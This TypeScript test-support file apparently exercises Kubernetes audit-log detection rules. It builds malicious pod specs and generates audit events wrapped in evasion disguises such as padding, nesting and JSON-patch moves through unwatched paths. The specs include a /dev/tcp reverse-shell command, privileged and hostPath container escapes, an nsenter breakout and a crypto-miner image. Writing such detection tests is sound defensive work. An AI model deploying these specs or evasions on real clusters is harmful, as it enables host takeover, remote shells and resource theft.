import { eventWith } from '../unit/detect/support.ts';
import { type Nesting, nested } from './nestings.ts';
import { jsonPatch, mergePatch, type Operation, strategicPatch } from './patches.ts';

type Json = Record<string, unknown>;

/** What an attacker wants: fields of one container, and of its pod. */
export interface Harm {
  readonly container?: Json;
  readonly pod?: Json;
}

const SHELL = ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'];
const hostPath = (path: string): Harm => ({ pod: { volumes: [{ name: 'h', hostPath: { path } }] } });
const secured = (securityContext: Json): Harm => ({ container: { securityContext } });

/** Each of them is a detection of the field (rules/detections.json). */
export const HARMS: readonly Harm[] = [
  secured({ privileged: true }),
  secured({ capabilities: { add: ['SYS_ADMIN'] } }),
  secured({ runAsUser: 0, allowPrivilegeEscalation: true }),
  secured({ windowsOptions: { hostProcess: true } }),
  { pod: { hostPID: true, hostNetwork: true, hostIPC: true } },
  { pod: { shareProcessNamespace: true } },
  hostPath('/'),
  hostPath('/run/containerd/containerd.sock'),
  { container: { command: SHELL } },
  { container: { lifecycle: { postStart: { exec: { command: SHELL } } } } },
  { container: { image: 'docker.io/x/xmrig:latest' } },
  {
    container: { command: ['nsenter', '-t', '1', '-m', 'sh'], securityContext: { privileged: true } },
    pod: { hostPID: true },
  },
];

/** How the object is written. */
export const CREATIONS = ['create', 'apply of something new'] as const;
export const CHANGES = [
  ...['update', 'apply', 'merge patch', 'strategic merge patch', 'JSON patch'],
  'JSON patch that moves things into place',
] as const;

/** What surrounds a harm and does not lessen it. */
export interface Disguise {
  readonly nesting: Nesting;
  /** One of the above. */
  readonly way: string;
  readonly isFormerVersion: boolean;
  readonly list: 'containers' | 'initContainers';
  /** How many harmless containers stand before and behind the one that matters. */
  readonly before: number;
  readonly behind: number;
  /** Whether a change puts in the container, or the harm into one that was there. */
  readonly isContainerNew: boolean;
  /** What is recorded of the answer: the object, only its code, or that it was refused. */
  readonly answer: 'whole' | 'code' | 'denied';
  /** Whether the object was seen before. */
  readonly isKnown: boolean;
  /** Whether the stage before the answer is recorded too. */
  readonly isStaged: boolean;
  readonly user: string;
  readonly namespace: string;
  readonly name: string;
  /** How many labels and annotations the object has. */
  readonly labels: number;
  /** How many words stand before a command, and capabilities that do no harm before one that does. */
  readonly words: number;
}

/** The same harm with nothing around it. */
export function undisguised({ nesting, answer }: Disguise): Disguise {
  return {
    ...{ nesting, answer, way: 'create', isFormerVersion: false, list: 'containers', before: 0, behind: 0 },
    ...{ isContainerNew: true, isKnown: false, isStaged: false },
    ...{ user: 'alice', namespace: 'dev', name: 'x', labels: 0, words: 0 },
  };
}

const HARMLESS = { name: 'c', image: 'registry.k8s.io/pause:3.10' };

function containers(count: number, prefix: string): object[] {
  return Array.from({ length: count }, (_, index) => ({ ...HARMLESS, name: `${prefix}${index}` }));
}

/** The object with all harms in it, or as it was before. */
function objectOf(disguise: Disguise, harms: readonly Harm[]): Json {
  const { nesting, list, before, behind, name, namespace, labels, isContainerNew, isFormerVersion } =
    disguise;
  const own = padded(
    harms.reduce<Json>((all, { container = {} }) => merged(all, container), HARMLESS),
    disguise.words,
  );
  const isBefore = harms.length === 0;
  const those = [
    ...containers(before, 'before'),
    ...(isBefore && isContainerNew ? [] : [own]),
    ...containers(behind, 'behind'),
  ];
  const lists = { containers: list === 'containers' ? those : containers(1, 'main'), [list]: those };
  const spec = harms.reduce<Json>((all, { pod = {} }) => merged(all, pod), lists);
  const many = Object.fromEntries(
    Array.from({ length: labels }, (_, index) => [`example.com/l${index}`, 'x']),
  );
  const { metadata: _, ...object } = nested(nesting, { metadata: {}, spec });
  const metadata = { name, namespace, labels: many, annotations: many };
  return { ...object, ...(isFormerVersion && { apiVersion: nesting.former }), metadata };
}

/** What runs the same command, and adds capabilities that no kernel has. */
function padded(container: Json, words: number): Json {
  const { command, securityContext } = container;
  const many = (text: string) => Array.from({ length: words }, (_, index) => `${text}${index}`);
  const { capabilities, ...secured } = (securityContext ?? {}) as Json;
  return {
    ...container,
    ...(Array.isArray(command) &&
      words > 0 && { command: ['env', ...many('A=').map((word) => `${word}=x`), ...command] }),
    ...(isObject(capabilities) && {
      securityContext: { ...secured, capabilities: merged({ add: many('A') }, capabilities) },
    }),
  };
}

/** Both, with what each says of an object that both have. */
function merged(a: Json, b: Json): Json {
  const all = { ...a };
  for (const [key, value] of Object.entries(b)) {
    const known = all[key];
    if (Array.isArray(known) && Array.isArray(value)) all[key] = [...known, ...value];
    else if (isObject(known) && isObject(value)) all[key] = merged(known, value);
    else all[key] = value;
  }
  return all;
}

function isObject(value: unknown): value is Json {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

function bodyOf(way: string, before: Json, after: Json): unknown {
  if (way === 'merge patch') return mergePatch(before, after);
  if (way === 'strategic merge patch') return strategicPatch(before, after);
  if (way === 'JSON patch') return jsonPatch(before, after);
  return way.startsWith('JSON patch') ? jsonPatch(before, after).flatMap(moved) : after;
}

/** The same change by way of a place where nobody looks. */
function moved(operation: Operation, index: number): Operation[] {
  const { op, path, value } = operation;
  if (op === 'remove') return [operation];
  const aside = `/metadata/aside${index}`;
  return [
    { op: 'add', path: aside, value },
    ...(op === 'replace' ? [{ op: 'remove', path }] : []),
    { op: 'move', from: aside, path },
  ];
}

const REFUSED = {
  status: 'Failure',
  message: 'admission webhook "policy.example.com" denied the request: no',
  code: 403,
};

const VERBS: ReadonlyMap<string, string> = new Map([
  ['create', 'create'],
  ['update', 'update'],
]);

/** What the API server records of the attack: of the attack itself, and before it of the object that it found, if that is known. */
export function eventsOf(disguise: Disguise, harms: readonly Harm[]): { before: object[]; attack: object[] } {
  const { nesting, way, answer, user, namespace, name } = disguise;
  const [before, after] = [objectOf(disguise, []), objectOf(disguise, harms)];
  const [apiVersion, apiGroup = ''] = String(after.apiVersion).split('/').reverse();
  const objectRef = {
    resource: nesting.resource,
    namespace,
    name,
    ...(apiGroup && { apiGroup }),
    apiVersion,
  };
  const address = `${apiGroup ? `/apis/${apiGroup}` : '/api'}/${apiVersion}/namespaces/${namespace}/${nesting.resource}`;
  const isCreation = CREATIONS.some((one) => one === way);
  const at = (second: number) => ({
    requestReceivedTimestamp: `2026-11-22T13:00:0${second}.000001Z`,
    stageTimestamp: `2026-11-22T13:00:0${second}.000002Z`,
  });
  const verb = VERBS.get(way) ?? 'patch';
  const asked = eventWith({
    ...{ auditID: 'attack', verb, objectRef, user: { username: user, groups: ['system:authenticated'] } },
    requestURI: verb === 'create' ? address : `${address}/${name}`,
    ...{ requestObject: bodyOf(way, before, after), ...at(2) },
  });
  const answered = {
    ...asked,
    responseStatus: answer === 'denied' ? REFUSED : { code: isCreation ? 201 : 200 },
    ...(answer === 'whole' && { responseObject: stored(after, 2) }),
  };
  const { requestObject, responseStatus, ...received } = { ...asked, stage: 'RequestReceived' } as Json;
  const found = { requestURI: address, objectRef, requestObject: before, responseObject: stored(before, 1) };
  return {
    before: disguise.isKnown && !isCreation ? [eventWith({ auditID: 'before', ...found, ...at(1) })] : [],
    attack: disguise.isStaged ? [received, answered] : [answered],
  };
}

/** As the API server answers with it: it notes who wrote what and when, also of those who have nothing to do with it. */
function stored(object: Json, second: number): Json {
  const managedFields = [
    { manager: 'other', operation: 'Update', time: '2026-11-22T10:00:00Z', fieldsV1: { 'f:status': {} } },
    { manager: 'kubectl', operation: 'Update', time: `2026-11-22T13:00:0${second}Z` },
  ];
  return { ...object, metadata: { ...(object.metadata as Json), managedFields } };
}
